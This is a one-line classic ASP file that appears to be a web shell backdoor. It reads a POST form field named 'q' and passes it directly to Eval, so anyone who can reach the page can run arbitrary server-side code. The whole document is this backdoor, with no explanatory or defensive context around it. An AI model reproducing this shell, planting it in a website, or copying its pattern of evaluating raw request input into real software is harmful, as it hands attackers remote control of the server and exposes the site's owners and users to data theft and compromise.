<% Dim x : x = Request.Form("q") : Eval(x) %>
